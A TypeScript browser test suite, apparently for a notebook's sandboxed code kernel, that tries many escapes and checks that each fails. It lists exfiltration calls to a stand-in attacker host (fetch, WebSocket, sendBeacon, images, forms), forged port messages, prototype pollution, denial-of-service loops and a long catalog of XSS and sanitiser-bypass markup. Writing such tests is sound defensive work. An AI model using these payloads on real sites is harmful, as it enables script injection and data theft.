import type { Browser, Frame, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { describeInBrowser, launch } from '../../../playground/test/browser.ts'
import type { TestPage } from './page.ts'
import { serveAttacker, servePage } from './servers.ts'

declare const window: { page: TestPage }

/** Attempts of code in a cell. `EVIL` is the attacker's address; each is to end in `out` if it got out. */
const network: Record<string, string> = {
  fetch: "await fetch('EVIL', { mode: 'no-cors' })",
  XMLHttpRequest:
    "await new Promise((y, n) => { const x = new XMLHttpRequest(); x.onload = y; x.onerror = n; x.open('GET', 'EVIL'); x.send() })",
  'synchronous XMLHttpRequest':
    "const x = new XMLHttpRequest(); x.open('GET', 'EVIL', false); x.send()",
  WebSocket:
    "await new Promise((y, n) => { const s = new WebSocket('EVIL'.replace('http', 'ws')); s.onopen = y; s.onerror = n; s.onclose = n })",
  EventSource:
    "await new Promise((y, n) => { const s = new EventSource('EVIL'); s.onopen = y; s.onerror = n })",
  importScripts: "importScripts('EVIL.js')",
  'dynamic import, behind eval': 'await (0, eval)("import(\'EVIL.js\')")',
  'dynamic import, behind Function': 'await new Function("return import(\'EVIL.js\')")()',
  'a font': "const f = new FontFace('x', 'url(EVIL)'); await f.load()",
  'a worker of another address':
    "await new Promise((y, n) => { const w = new Worker('EVIL.js'); w.onmessage = y; w.onerror = n })",
  'a worker that fetches':
    "await new Promise((y, n) => { const w = new Worker(URL.createObjectURL(new Blob([\"fetch('EVIL', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))\"]))); w.onmessage = ({ data }) => data ? y(1) : n(new Error('refused')); w.onerror = n })",
  'a worker that imports scripts':
    "await new Promise((y, n) => { const w = new Worker(URL.createObjectURL(new Blob([\"try { importScripts('EVIL.js'); postMessage(1) } catch { postMessage(0) }\"]))); w.onmessage = ({ data }) => data ? y(1) : n(new Error('refused')); w.onerror = n })",
  WebTransport:
    "const t = new globalThis.WebTransport('EVIL'.replace('http:', 'https:')); await t.ready",
  'streaming WebAssembly': "await WebAssembly.compileStreaming(fetch('EVIL', { mode: 'no-cors' }))",
}
/** Attempts at what a page has and a kernel must not. */
const reach: Record<string, string> = {
  'the page’s document': 'globalThis.parent.document.title',
  'the top window': 'globalThis.top.location.href',
  window: 'globalThis.window.document.cookie',
  localStorage: 'globalThis.localStorage.setItem("a", "b")',
  IndexedDB:
    'await new Promise((y, n) => { const r = indexedDB.open("a"); r.onsuccess = y; r.onerror = n })',
  'the cache storage': 'await globalThis.caches.open("a")',
  cookies: 'await globalThis.cookieStore.set("a", "b")',
  'the private file system': 'await navigator.storage.getDirectory()',
  'locks of the page': 'await navigator.locks.request("a", () => {})',
  clipboard: 'await navigator.clipboard.writeText("a")',
  'a service worker': 'await navigator.serviceWorker.register("x.js")',
  'the files of the page': "await fetch('HOSTpage.js')",
  'a notification':
    'new Notification("a"); if (Notification.permission !== "granted") throw new Error("refused")',
  sendBeacon: "navigator.sendBeacon('EVIL', 'a')",
  RTCPeerConnection:
    'new globalThis.RTCPeerConnection({ iceServers: [{ urls: "STUN" }] }).createDataChannel("a")',
  'opening a window': "globalThis.open('EVIL')",
  'an image': "new globalThis.Image().src = 'EVIL'",
}
/** The same, should code ever come to run in the frame around the worker. */
const framed: Record<string, string> = {
  ...network,
  sendBeacon:
    "if (!navigator.sendBeacon('EVIL', 'a')) throw new Error('refused'); await new Promise((d) => setTimeout(d, 200)); throw new Error('queued only')",
  'an image':
    "await new Promise((y, n) => { const i = new Image(); i.onload = y; i.onerror = n; i.src = 'EVIL' })",
  'a style sheet':
    "await new Promise((y, n) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'EVIL'; l.onload = y; l.onerror = n; document.head.append(l) })",
  'a picture of a style':
    "const s = document.createElement('style'); s.textContent = 'html{background:url(EVIL)}@import url(EVIL)'; document.head.append(s); await new Promise((d) => setTimeout(d, 200)); throw new Error('no load')",
  'a prefetch':
    "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'EVIL'; document.head.append(l); await new Promise((y, n) => { l.onload = y; l.onerror = n; setTimeout(n, 400) })",
  'a script element':
    "await new Promise((y, n) => { const s = document.createElement('script'); s.src = 'EVIL.js'; s.onload = y; s.onerror = n; document.head.append(s) })",
  'an inline script':
    "globalThis.ran = 0; const s = document.createElement('script'); s.textContent = 'globalThis.ran = 1'; document.head.append(s); if (!globalThis.ran) throw new Error('refused')",
  'a frame inside':
    "const f = document.createElement('iframe'); f.src = 'EVIL'; document.documentElement.append(f); await new Promise((d) => setTimeout(d, 300)); throw new Error('no load')",
  'a form':
    "const f = document.createElement('form'); f.action = 'EVIL'; f.method = 'post'; document.documentElement.append(f); f.submit(); await new Promise((d) => setTimeout(d, 300)); throw new Error('no load')",
  'a window': "if (!open('EVIL')) throw new Error('refused')",
  'a download':
    "const a = document.createElement('a'); a.href = 'EVIL'; a.download = 'x'; document.documentElement.append(a); a.click(); await new Promise((d) => setTimeout(d, 300)); throw new Error('no load')",
  'the top’s address': "top.location.href = 'EVIL'",
  'the page’s document': 'parent.document.title',
  'the page’s globals': 'parent.page.record',
  localStorage: 'localStorage.length',
  cookies: "document.cookie = 'a=b'; if (!document.cookie) throw new Error('none')",
  IndexedDB:
    'await new Promise((y, n) => { const r = indexedDB.open("a"); r.onsuccess = y; r.onerror = n })',
  clipboard: 'await navigator.clipboard.readText()',
  'a peer connection':
    "const p = new RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] }); p.createDataChannel('a'); await p.setLocalDescription(await p.createOffer()); await new Promise((d) => setTimeout(d, 500))",
}

describeInBrowser('attacks', () => {
  let browser: Browser
  let page: Page
  let host: Awaited<ReturnType<typeof servePage>>
  let attacker: Awaited<ReturnType<typeof serveAttacker>>
  beforeAll(async () => {
    ;[browser, host, attacker] = await Promise.all([launch(), servePage(), serveAttacker()])
  })
  const visit = async () => {
    const opened = await (await browser.newContext()).newPage()
    await opened.goto(host.address)
    await opened.waitForFunction(() => 'page' in window)
    return opened
  }
  beforeAll(async () => {
    page = await visit()
  })
  beforeEach(() => {
    attacker.hits.length = 0
  })
  afterAll(async () => {
    await Promise.all([browser.close(), host.close(), attacker.close()])
  })

  const aimed = (code: string, name: string) =>
    code
      .replaceAll('EVIL', `${attacker.address}${encodeURIComponent(name)}`)
      .replaceAll('HOST', host.address)
      .replaceAll('STUN', attacker.stun)
  const record = () => page.evaluate(() => window.page.record)
  const open = (sources: Record<string, string>, limits = {}) =>
    page.evaluate(
      ([s, l]) => window.page.open(s as Record<string, string>, l as object),
      [sources, limits],
    )
  const settle = (ms: number) => new Promise((done) => setTimeout(done, ms))
  const patient = { timeout: 50_000 }
  /** The page lives: its kernel computes, and nothing of it was changed. */
  const lives = async () => {
    await page.evaluate(() => window.page.open({ alive: '6 * 7' }))
    await expect
      .poll(async () => (await record()).outputs.alive, patient)
      .toMatchObject([{ data: '42' }])
    await unchanged(page)
  }
  const unchanged = async (at: Page) => {
    expect(at.url()).toBe(host.address)
    expect(await at.locator('#secret').textContent()).toBe('secret')
    expect(at.context().pages()).toHaveLength(1)
  }
  const attempt = (code: string) =>
    `let result = 'out'\ntry { await (async () => { ${code} })() } catch (error) { result = 'in: ' + error }\nresult`

  test('the attempts do reach the attacker from a worker that is not in a sandbox', async () => {
    const bare = await (await browser.newContext()).newPage()
    await bare.goto(attacker.address)
    attacker.hits.length = 0
    for (const [name, code] of Object.entries(network)) {
      const source = `(async () => { ${aimed(code, name)} })().catch(() => {})`
      await bare.evaluate((s) => {
        new Worker(URL.createObjectURL(new Blob([s])))
      }, source)
    }
    await expect
      .poll(
        () =>
          new Set(attacker.hits.map((url) => decodeURIComponent(url).replace(/^\/|\.js$/g, '')))
            .size,
        patient,
      )
      .toBeGreaterThanOrEqual(Object.keys(network).length - 2)
    await bare.evaluate(aimed(`(async () => { ${framed['a peer connection']} })()`, 'rtc'))
    await expect.poll(() => attacker.hits, patient).toContain('/udp')
    await bare.context().close()
  })

  test('no attempt of a cell reaches the network, the page or a store', async () => {
    const attempts = Object.entries({ ...network, ...reach })
    // One after another through one chain of names would stop at a hanging one: all at once.
    const cells = Object.fromEntries(
      attempts.map(([name, code], i) => [
        `c${i}`,
        attempt(aimed(code, name)).replaceAll('result', `result${i}`),
      ]),
    )
    await open(cells)
    await settle(2500)
    const results = async () => {
      const { outputs, states } = await record()
      return attempts.map(([name], i) => [
        name,
        (outputs[`c${i}`]?.[0] as { data?: string } | undefined)?.data ?? `in: ${states[`c${i}`]}`,
      ])
    }
    // Most are refused, not merely slow.
    await expect
      .poll(
        async () => (await results()).filter(([, result]) => result === 'in: running').length,
        patient,
      )
      .toBeLessThan(4)
    const got = await results()
    expect(got.filter(([, result]) => !result?.startsWith('in: '))).toEqual([])
    expect(attacker.hits).toEqual([])
    expect(got.filter(([, result]) => /in: (failed|waiting|undefined)/.test(result ?? ''))).toEqual(
      [],
    )
    await lives()
  })

  describe('from the frame around the worker', () => {
    // One page for all of them, which is to live after the last.
    let shared: Page
    let frame: Frame
    beforeAll(async () => {
      shared = await visit()
      await shared.evaluate(() => window.page.open({ c1: '1' }))
      frame = sandboxOf(shared)
    })
    afterAll(() => shared.context().close())

    test.each(Object.entries(framed))('%s', async (name, code) => {
      const result = await Promise.race([
        frame
          .evaluate(
            `(async () => { ${aimed(code, name)} })().then(() => 'out', (error) => 'in: ' + error)`,
          )
          .catch(String),
        settle(1500).then(() => 'in: waits for ever'),
      ])
      expect(result).not.toBe('out')
      await settle(100)
      expect(attacker.hits).toEqual([])
      await unchanged(shared)
      // The kernel in that frame answers as before, or new one does: a frame that begins to be navigated is given up.
      await expect
        .poll(
          async () =>
            (await shared.evaluate(() => window.page.inspect()).catch(() => undefined))?.graph
              .length,
          patient,
        )
        .toBe(1)
    })

    test('navigating the frame away is refused by the page, and the kernel starts anew', async () => {
      await open({ c1: '1' }, { heartbeatMs: 100, silentBeats: 20 })
      const frame = sandboxOf(page)
      // Not waited for: the frame may be gone before it can answer.
      void frame.evaluate(`location.href = '${attacker.address}frame?secret'`).catch(() => {})
      await expect.poll(async () => (await record()).restarts.length, patient).toBeGreaterThan(0)
      expect(attacker.hits).toEqual([])
      await lives()
    })

    test('messages to the page without its port are heard by nobody', async () => {
      await open({ c1: '1' })
      await expect.poll(async () => (await record()).states.c1, patient).toBe('done')
      const frame = sandboxOf(page)
      await frame.evaluate(
        "parent.postMessage({ type: 'state', cell: 'c1', state: 'failed' }, '*'); const c = new MessageChannel(); parent.postMessage('start', '*', [c.port2]); c.port1.postMessage({ type: 'state', cell: 'c1', state: 'failed' })",
      )
      await settle(200)
      expect((await record()).states.c1).toBe('done')
      await lives()
    })
  })

  describe('forgery and denial of service', () => {
    const quick = { heartbeatMs: 100, busyBeats: 3, silentBeats: 15 }
    /** Code that gets hold of the kernel’s port, as a cell can: it shares the worker with it. */
    const steal = `const real = MessagePort.prototype.postMessage
const port = await new Promise<MessagePort>((done) => { MessagePort.prototype.postMessage = function (...all: any[]) { if (all[0]?.type) done(this); return real.apply(this, all as never) } ; console.log('x') })
MessagePort.prototype.postMessage = real\n`

    test('channels, shared workers and workers of data reach neither the page nor another notebook', async () => {
      await page.evaluate(() => {
        Object.assign(window, { heard: [] as unknown[] })
        const { heard } = window as unknown as { heard: unknown[] }
        for (const name of ['sojourn', 'notebook'])
          new BroadcastChannel(name).onmessage = ({ data }) => heard.push(data)
        addEventListener('storage', () => heard.push('storage'))
      })
      const shared = "onconnect = ({ ports: [port] }) => port.postMessage('out')"
      await open({
        c1: "for (const name of ['sojourn', 'notebook']) new BroadcastChannel(name).postMessage('out')\n'sent'",
        c2: attempt(
          `const w = new globalThis.SharedWorker(URL.createObjectURL(new Blob([${JSON.stringify(shared)}])), 'known'); await new Promise((y, n) => { w.port.onmessage = y; w.onerror = n })`,
        ).replaceAll('result', 'r2'),
        c3: attempt(
          aimed(
            'await new Promise((y, n) => { const w = new Worker(\'data:text/javascript,fetch("EVIL",{mode:"no-cors"}).then(()=>postMessage(1))\'); w.onmessage = y; w.onerror = n; setTimeout(n, 1500) })',
            'data',
          ),
        ).replaceAll('result', 'r3'),
        c4: attempt(
          aimed('importScripts(\'data:text/javascript,importScripts("EVIL.js")\')', 'imported'),
        ).replaceAll('result', 'r4'),
        c5: attempt(
          aimed(
            "await new Promise((y, n) => { const w = new Worker(URL.createObjectURL(new Blob(['import(\"EVIL.js\").then(() => postMessage(1), () => close())'])), { type: 'module' }); w.onmessage = y; w.onerror = n; setTimeout(n, 1500) })",
            'module',
          ),
        ).replaceAll('result', 'r5'),
      })
      for (const cell of ['c2', 'c3', 'c4', 'c5'])
        await expect
          .poll(
            async () =>
              ((await record()).outputs[cell]?.[0] as { data?: string } | undefined)?.data,
            patient,
          )
          .toMatch(/^in: /)
      await settle(300)
      expect(await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).toEqual(
        [],
      )
      expect(attacker.hits).toEqual([])
      await lives()
    })

    test('a memory of WebAssembly, and keys of a prototype in what is shown, stay where they are', async () => {
      await open({
        c1: attempt(
          'const all: unknown[] = []; for (;;) all.push(new Uint8Array(new WebAssembly.Memory({ initial: 65536 }).buffer).fill(1))',
        ),
        c2: 'display(table([JSON.parse(\'{"__proto__":1,"constructor":2,"toString":3}\')]))\nnew ((table([{ a: 1 }]) as any).constructor)(JSON.parse(\'{"kind":"scenario","data":{"constructor":{"prototype":{"polluted":1}},"__proto__":{"polluted":1}},"summary":""}\'))',
      })
      await settle(1500)
      expect(
        await page.evaluate(() => [
          ({} as { polluted?: number }).polluted,
          typeof {}.toString,
          typeof {}.constructor,
        ]),
      ).toEqual([undefined, 'function', 'function'])
      await lives()
    })

    test('messages forged on the kernel’s own port are checked', async () => {
      await open({
        c1: `${steal}
for (const message of [{ type: 'eval', code: 'alert(1)' }, { type: 'outputs', cell: 'gone', outputs: [] }, { type: 'state', cell: 'c1', state: 'owned' }, 'x', { type: 'console', cell: 'c1', line: { level: 'log', text: 'x'.repeat(1e6) } }]) real.call(port, message)
real.call(port, { type: 'outputs', cell: 'c1', outputs: [{ kind: 'html', data: '<script>alert(1)</script>', summary: '' }, JSON.parse('{"kind":"map","data":{"__proto__":{"polluted":1}},"summary":""}')] })
await new Promise(() => {})`,
      })
      await expect.poll(async () => (await record()).refused.length, patient).toBe(5)
      const { outputs } = await record()
      expect(outputs.c1).toMatchObject([{ kind: 'text' }, { kind: 'text' }])
      expect(await page.evaluate(() => (({}) as { polluted?: number }).polluted)).toBeUndefined()
      await lives()
    })

    test('a flood of messages ends the kernel', async () => {
      await open({
        c1: `${steal}\nfor (let i = 0; i < 2e4; i++) real.call(port, { type: 'pong', number: i })\nawait new Promise(() => {})`,
      })
      await expect
        .poll(async () => (await record()).restarts, patient)
        .toContainEqual(['flood', ['c1']])
      await lives()
    })

    test.each([
      ['one message of half a gigabyte', "show('x'.repeat(5e8))"],
      ['millions of objects', 'show(Array.from({ length: 3e6 }, (_, i) => ({ i })))'],
      ['large texts without end', "for (let i = 0; ; i++) show(i + 'x'.repeat(3.9e6))"],
      [
        'large tables without end, with pauses',
        "const rows = Array.from({ length: 1000 }, () => Array(50).fill('x'))\nfor (;;) { show({ columns: Array(50).fill('c'), rows }, 'table'); await new Promise((next) => setTimeout(next, 4)) }",
      ],
    ])('%s, on the kernel’s own port, end the kernel', async (_, source) => {
      const show =
        "const show = (data: unknown, kind = 'text') => real.call(port, { type: 'outputs', cell: 'c1', outputs: [{ kind, data, summary: '' }] })"
      await open({ c1: `${steal}${show}\n${source}\nawait new Promise(() => {})` })
      await expect
        .poll(async () => (await record()).restarts, patient)
        .toContainEqual(['flood', ['c1']])
      await lives()
    })

    test('an endless loop is ended, the page answers all the while, and a new kernel is up soon', async () => {
      await open(
        { c0: 'const a = 1', c1: 'while (true) {}', c2: 'a + 1' },
        { ...quick, silentBeats: 1000 },
      )
      await expect.poll(async () => (await record()).busy.length, patient).toBeGreaterThan(0)
      await expect.poll(() => page.workers().length, patient).toBe(2)
      await settle(1000)
      const answered = await page.evaluate(async () => {
        const from = performance.now()
        await new Promise((done) => setTimeout(done, 0))
        return performance.now() - from
      })
      expect(answered).toBeLessThan(10_000)
      await page.evaluate(() => window.page.stop('c1'))
      await expect
        .poll(async () => (await record()).outputs.c2, patient)
        .toMatchObject([{ data: '2' }])
      const { restarts, states, restartMs } = await record()
      expect(restarts).toEqual([['stopped', ['c1']]])
      expect(states.c1).toBe('stopped')
      // Generous, for a busy machine; the playground's test of speed prints what it takes.
      expect(restartMs[0]).toBeLessThan(10_000)
    })

    test.each([
      ['an endless loop', 'for (;;) {}', 'silent'],
      [
        'a flood of microtasks',
        'const f = (): Promise<void> => Promise.resolve().then(f)\nawait f()',
        'silent',
      ],
      ['an endless regular expression', "/^(a+)+$/.test('a'.repeat(40) + 'b')", 'silent'],
      ['ending its own worker', 'close()\nawait new Promise(() => {})', 'silent'],
    ])('%s is ended by itself', async (_, source, reason) => {
      await open({ c1: source }, quick)
      await expect.poll(async () => (await record()).restarts[0], patient).toEqual([reason, ['c1']])
      await lives()
    })

    test('one that takes all memory is ended, and the page lives', async () => {
      await open(
        {
          c1: 'const hog: unknown[] = []\nfor (;;) hog.push(new Array(1e5).fill(0).map(() => ({})))',
        },
        { heartbeatMs: 100, silentBeats: 30 },
      )
      await expect.poll(async () => (await record()).restarts[0]?.[1], patient).toEqual(['c1'])
      await lives()
    })

    test('huge outputs and floods of the console are cut', async () => {
      await open({
        c1: "'x'.repeat(5e6)",
        c2: 'for (let i = 0; i < 1e5; i++) console.log(i)\n1',
        c3: 'for (let i = 0; i < 1e4; i++) display(i)',
      })
      await expect
        .poll(async () => [...Object.values((await record()).states)], patient)
        .toEqual(expect.arrayContaining(['done', 'done', 'failed']))
      const { outputs, lines } = await record()
      expect(outputs.c1).toMatchObject([{ data: expect.stringMatching(/too large/) }])
      expect(lines).toBe(201)
      await lives()
    })

    test('workers that a cell left behind die with the kernel', async () => {
      await open(
        {
          c1: "const w = new Worker(URL.createObjectURL(new Blob(['for (;;) {}'])))",
          c2: 'for (;;) {}',
        },
        quick,
      )
      await expect.poll(async () => (await record()).restarts.length, patient).toBeGreaterThan(0)
      await page.evaluate(() => window.page.open({ alive: '1' }))
      // The page, the two frames of the kernel and those of the spare one, with a worker each.
      await expect.poll(() => page.frames().length, patient).toBeLessThanOrEqual(5)
      await expect.poll(() => page.workers().length, patient).toBeLessThanOrEqual(2)
    })

    test('a cell that breaks JavaScript breaks it for its own kernel only', async () => {
      await open(
        {
          c1: 'Object.prototype.toJSON = () => { throw 1 }\nArray.prototype.push = () => 0\nPromise.prototype.then = undefined as never',
        },
        quick,
      )
      await settle(300)
      expect(await page.evaluate(() => 'toJSON' in Object.prototype)).toBe(false)
      await lives()
    })
  })

  describe('script in Markdown, SVG and links', () => {
    // Without the page's policy: the sanitiser alone has to hold.
    let bare: Page
    beforeAll(async () => {
      bare = await (await browser.newContext({ bypassCSP: true })).newPage()
      await bare.goto(host.address)
      await bare.waitForFunction(() => 'page' in window)
    })
    afterAll(() => bare.context().close())

    test.each([
      '<script>window.owned = 1</script>',
      '<img src=x onerror="window.owned = 1">',
      '<svg onload="window.owned = 1"><script>window.owned = 1</script></svg>',
      '[click](javascript:window.owned=1)',
      '<a href="java\tscript:window.owned=1">x</a>',
      '<a href="data:text/html,<script>window.owned=1</script>">x</a>',
      '![p](EVIL)',
      '<img src="EVIL"><img srcset="EVIL 1x"><video src="EVIL" autoplay></video><input type=image src="EVIL">',
      '<iframe srcdoc="<script>parent.owned = 1</script>"></iframe><iframe src="EVIL"></iframe>',
      '<form action="EVIL"><button autofocus onfocus="window.owned = 1">x</button></form>',
      '<style>@import url(EVIL); body { background: url(EVIL) }</style><link rel=stylesheet href="EVIL"><p style="background:url(EVIL)">',
      '<base href="EVIL"><meta http-equiv="refresh" content="0;url=EVIL">',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.owned=1&gt;">',
      '<svg><foreignObject><img src=x onerror="window.owned = 1"></foreignObject><image href="EVIL"/><use href="EVIL#a"/></svg>',
      '<svg><a xlink:href="javascript:window.owned=1"><text>x</text></a><animate attributeName="href" to="javascript:window.owned=1"/></svg>',
      '<svg><style>rect { fill: url(EVIL#a) }</style><rect style="fill: url(EVIL#a)" filter="url(EVIL#b)" width="9" height="9"/></svg>',
      '<object data="EVIL"></object><embed src="EVIL"><template><script>window.owned = 1</script></template>',
      '<div id="page" name="page"><img name="page">',
      '<link rel="preconnect" href="EVIL"><link rel="dns-prefetch" href="EVIL"><link rel="modulepreload" href="EVIL.js">',
      '[a](data:text/html;base64,PHNjcmlwdD5vcGVuZXIub3duZWQ9MTwvc2NyaXB0Pg==) [b](vbscript:owned) [c](&#106;ava&Tab;script&colon;window.owned=1)',
      '[a](<java\nscript:window.owned=1>) <javascript:window.owned=1> [b]\n\n[b]: javascript&#58;window.owned=1',
      '<a href="#" target="_blank" ping="EVIL" onclick="window.owned = 1" download>x</a><area href="javascript:window.owned=1">',
      '<svg><filter id="f"><feImage href="EVIL" xlink:href="EVIL"/></filter><rect filter="url(#f)" width="9" height="9" cursor="url(EVIL), auto"/></svg>',
      '<svg><rect fill="url(EVIL#a) red" stroke="image-set(&quot;EVIL&quot; 1x)" mask="url(EVIL#m)" clip-path="url( \'EVIL#c\' )" marker-start="u\\72l(EVIL#d)"/></svg>',
      '<svg><text><textPath href="EVIL#p">x</textPath></text><script href="EVIL.js"/><handler>window.owned = 1</handler><discard begin="0s"/></svg>',
      '<svg xmlns="http://www.w3.org/2000/svg"><desc><![CDATA[</desc><script>window.owned = 1</script>]]></desc><title><a href="javascript:window.owned=1">x</a></title></svg>',
      '<div popover id="p">x</div><button popovertarget="p">y</button><details ontoggle="window.owned = 1" open>z</details>',
      '<math href="javascript:window.owned=1"><maction actiontype="statusline#EVIL">x</maction></math><portal src="EVIL"></portal><fencedframe></fencedframe>',
    ])('%s', async (markup) => {
      const dirty = aimed(markup, 'markup')
      await bare.evaluate((m) => window.page.show(m, m), dirty)
      for (const link of await bare.locator('a').all())
        await link.evaluate((a) => (a as unknown as { click(): void }).click())
      await settle(150)
      expect(
        await bare.evaluate(() => (window as unknown as { owned?: number }).owned),
      ).toBeUndefined()
      expect(await bare.evaluate(() => typeof window.page.record)).toBe('object')
      expect(attacker.hits).toEqual([])
      await unchanged(bare)
    })
  })
})

/** The frame in which a kernel's worker is: the inner of the two. */
function sandboxOf(page: Page): Frame {
  const frame = page.frames().find((each) => each.parentFrame()?.url().endsWith('sandbox.html'))
  if (frame === undefined) throw new Error('There is no sandbox.')
  return frame
}
